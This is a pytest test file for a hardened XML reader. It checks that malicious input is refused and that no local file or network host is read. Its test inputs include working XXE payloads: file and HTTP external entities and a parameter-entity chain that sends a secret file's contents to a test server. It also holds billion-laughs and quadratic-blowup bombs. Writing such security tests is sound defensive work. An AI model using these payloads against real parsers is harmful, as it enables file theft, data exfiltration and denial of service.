"""The hardened XML reader: every attack refused with one error, nothing outside read."""

from __future__ import annotations

import codecs
import contextlib
import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree  # type: ignore[import-untyped]

from gateway.errors import InboundRejected, XmlRejected
from gateway.wire.xml import XmlLimits, read_xml
from gateway.wire.xml.reader import _parse_bounded
from tests.support.counting_http import CountingServer, counting_server

WCO = Path(__file__).resolve().parents[3] / "shared" / "corpus" / "xml" / "wco-dec-dms"
SECRET = "top-secret-6f1c2e"


@pytest.fixture
def server() -> Iterator[CountingServer]:
    with counting_server(f'<!ENTITY leak "{SECRET}">'.encode()) as srv:
        yield srv


@pytest.fixture
def secret_file(tmp_path: Path) -> Iterator[Path]:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET)
    # Two days back: any read would move the access time under relatime (vacuous on noatime).
    old = path.stat().st_mtime - 2 * 86400
    os.utime(path, (old, old))
    yield path
    assert path.stat().st_atime == old, "the secret file was read"


def refused(data: bytes, limits: XmlLimits | None = None) -> XmlRejected:
    with pytest.raises(XmlRejected) as caught:
        read_xml(data) if limits is None else read_xml(data, limits)
    assert isinstance(caught.value, InboundRejected)
    assert SECRET not in str(caught.value)
    return caught.value


def test_the_wco_sample_reads_fine() -> None:
    if not WCO.is_dir():
        pytest.skip(f"{WCO} is absent (the shared corpus is not on this machine)")
    doc = read_xml((WCO / "sample_valid_dec.xml").read_bytes())
    assert (doc.namespace, doc.local_name) == ("urn:wco:datamodel:WCO:DocumentMetaData-DMS:2",
                                               "MetaData")
    assert doc.elements == sum(1 for _ in doc.root.iter(etree.Element))
    assert doc.tree.getroot() is doc.root


def test_root_name_and_line_numbers() -> None:
    doc = read_xml(b'<?xml version="1.0"?>\n<r xmlns="urn:x">\n  <c>1</c>\n</r>')
    assert (doc.namespace, doc.local_name, doc.elements) == ("urn:x", "r", 2)
    assert doc.root[0].sourceline == 3
    assert read_xml(b"<plain/>").namespace is None


@pytest.mark.parametrize(("bom", "codec"), [
    (codecs.BOM_UTF16_LE, "utf-16-le"), (codecs.BOM_UTF16_BE, "utf-16-be"), (b"", "utf-16-le"),
])
def test_utf16_with_its_declaration(bom: bytes, codec: str) -> None:
    text = '<?xml version="1.0" encoding="UTF-16"?>\n<r xmlns="urn:x"><c>\u00e9\u20ac</c></r>'
    doc = read_xml(bom + text.encode(codec))
    assert (doc.namespace, doc.local_name) == ("urn:x", "r")
    assert doc.root[0].text == "\u00e9\u20ac"


def test_utf16_without_declaration() -> None:
    doc = read_xml(codecs.BOM_UTF16_BE + "<r>\u00e9</r>".encode("utf-16-be"))
    assert doc.root.text == "\u00e9"


def test_external_entity_to_a_file(secret_file: Path) -> None:
    data = (f'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file://{secret_file}">]>\n'
            "<r>&x;</r>").encode()
    assert "DOCTYPE" in str(refused(data))


def test_external_entity_over_http(server: CountingServer) -> None:
    data = (f'<!DOCTYPE r [<!ENTITY x SYSTEM "{server.url}/x">]><r>&x;</r>').encode()
    refused(data)
    assert server.hits == 0


def test_external_dtd_over_http(server: CountingServer) -> None:
    refused(f'<!DOCTYPE r SYSTEM "{server.url}/r.dtd"><r>&leak;</r>'.encode())
    refused(f'<!DOCTYPE r PUBLIC "-//X//DTD R//EN" "{server.url}/r.dtd"><r/>'.encode())
    assert server.hits == 0


def test_parameter_entities(server: CountingServer, secret_file: Path) -> None:
    data = (f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{server.url}/p.dtd"> %p;'
            f'<!ENTITY % f SYSTEM "file://{secret_file}">'
            f'<!ENTITY % e "<!ENTITY &#x25; g SYSTEM \'{server.url}/?%f;\'>"> %e; %g;]>'
            "<r>&leak;</r>").encode()
    refused(data)
    assert server.hits == 0


def test_billion_laughs() -> None:
    entities = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 12))
    data = f'<!DOCTYPE r [<!ENTITY l0 "lol">{entities}]><r>&l11;</r>'.encode()
    refused(data)  # 3 * 10**11 bytes if it were expanded


def test_quadratic_blowup() -> None:
    data = (f'<!DOCTYPE r [<!ENTITY a "{"x" * 100_000}">]><r>{"&a;" * 50_000}</r>').encode()
    refused(data)  # 5 GB if it were expanded


def test_no_doctype_at_all() -> None:
    assert "DOCTYPE" in str(refused(b"<!DOCTYPE r><r/>"))
    assert "DOCTYPE" in str(refused(b"<?xml version='1.0'?>\n<!-- c -->\n<!DOCTYPE r []>\n<r/>"))


def test_an_undefined_entity_is_refused_at_its_line() -> None:
    assert refused(b"<r>\n\n<c>&x;</c></r>").line == 3


def test_xinclude_is_not_processed(server: CountingServer, secret_file: Path) -> None:
    data = ('<r xmlns:xi="http://www.w3.org/2001/XInclude">'
            f'<xi:include href="file://{secret_file}" parse="text"/>'
            f'<xi:include href="{server.url}/x.xml"/></r>').encode()
    doc = read_xml(data)
    assert SECRET not in etree.tostring(doc.root).decode()
    assert len(doc.root) == 2
    assert server.hits == 0


def test_the_parser_itself_reads_nothing_outside(server: CountingServer, secret_file: Path) -> None:
    # Defence in depth: were the DOCTYPE check gone, the parser's own options still hold.
    for data in (f'<!DOCTYPE r [<!ENTITY x SYSTEM "file://{secret_file}">]><r>&x;</r>',
                 f'<!DOCTYPE r [<!ENTITY x SYSTEM "{server.url}/x">]><r>&x;</r>',
                 f'<!DOCTYPE r SYSTEM "{server.url}/r.dtd"><r/>',
                 f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{server.url}/p.dtd"> %p;]><r/>'):
        try:
            root, _ = _parse_bounded(data.encode(), XmlLimits())
        except (etree.XMLSyntaxError, XmlRejected):
            continue  # the resolver refused a URL libxml2 asked for, or libxml2 gave up
        assert SECRET not in etree.tostring(root).decode()
    assert server.hits == 0


def test_depth_bomb() -> None:
    # Whichever notices first within a chunk: our limit or libxml2's own (256 without huge_tree).
    error = refused(b"<a>" * 200_000 + b"</a>" * 200_000)
    assert "deeper than 64" in str(error) or "Excessive depth" in str(error)
    assert error.line == 1
    assert "deeper than 64" in str(refused(b"<a>\n" * 100 + b"</a>" * 100))


def test_depth_limit_is_configurable() -> None:
    data = b"<a>\n<b>\n<c/></b></a>"
    assert read_xml(data, XmlLimits(max_depth=3)).elements == 3
    assert refused(data, XmlLimits(max_depth=2)).line == 3


def test_element_count_bomb() -> None:
    error = refused(b"<r>" + b"<a/>" * 2_000_000 + b"</r>")
    assert "more than 250000 elements" in str(error)


def test_element_limit_is_configurable() -> None:
    data = b"<r>\n<a/>\n<a/>\n</r>"
    assert read_xml(data, XmlLimits(max_elements=3)).elements == 3
    assert refused(data, XmlLimits(max_elements=2)).line == 3


def test_oversize_is_refused_before_parsing() -> None:
    error = refused(b"<r>" + b" " * 10 * 1024 * 1024 + b"</r>")
    assert "over the 10485760" in str(error)
    assert error.line is None


@pytest.mark.parametrize(("data", "line"), [
    (b"<r>\n<a>\n</r>", 3),
    (b'<?xml version="1.0"?>\n<r>\n<a b="1" b="2"/></r>', 3),
    (b"<r/>\n<s/>", 2),
    (b"<r>\n\n\n", 4),
    (b"", 1),
    (b"\n<?xml version='1.0'?><r/>", 2),
    (codecs.BOM_UTF16_LE + "<r>\n<a></r>".encode("utf-16-le"), 2),
])
def test_not_well_formed_is_refused_at_its_line(data: bytes, line: int) -> None:
    error = refused(data)
    assert error.line == line
    assert str(error).startswith(f"line {line}: not well-formed XML")


def test_limits_are_positive() -> None:
    with pytest.raises(ValueError, match="max_depth"):
        XmlLimits(max_depth=0)


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(st.one_of(
    st.binary(max_size=256),
    st.binary(max_size=128).map(lambda b: b"<r>" + b),
    st.text(max_size=64).map(lambda t: f"<r>{t}</r>".encode("utf-16")),
    st.lists(st.sampled_from(
        ["<", ">", "&", ";", "<!DOCTYPE", "<!ENTITY", "[", "]", "%", "a", "\n", "'", "?", "/",
         "<?xml", " encoding='UTF-16'", "<![CDATA[", "]]>", "&#0;", "&#x10FFFF;", "<a>", "</a>"]),
        max_size=30).map(lambda parts: "".join(parts).encode()),
))
def test_random_bytes_raise_nothing_but_the_one_error(data: bytes) -> None:
    with contextlib.suppress(XmlRejected):
        read_xml(data, XmlLimits(max_depth=8, max_elements=50))


def test_thousands_of_namespace_declarations_are_refused_while_parsing() -> None:
    declarations = b" ".join(b'xmlns:p%d="urn:x:%d"' % (i, i) for i in range(20_000))
    exc = refused(b"<root " + declarations + b"><a/></root>")
    assert "more than 256 namespace declarations" in str(exc)
    some = b" ".join(b'xmlns:p%d="urn:x:%d"' % (i, i) for i in range(256))
    assert read_xml(b"<root " + some + b"/>").local_name == "root"
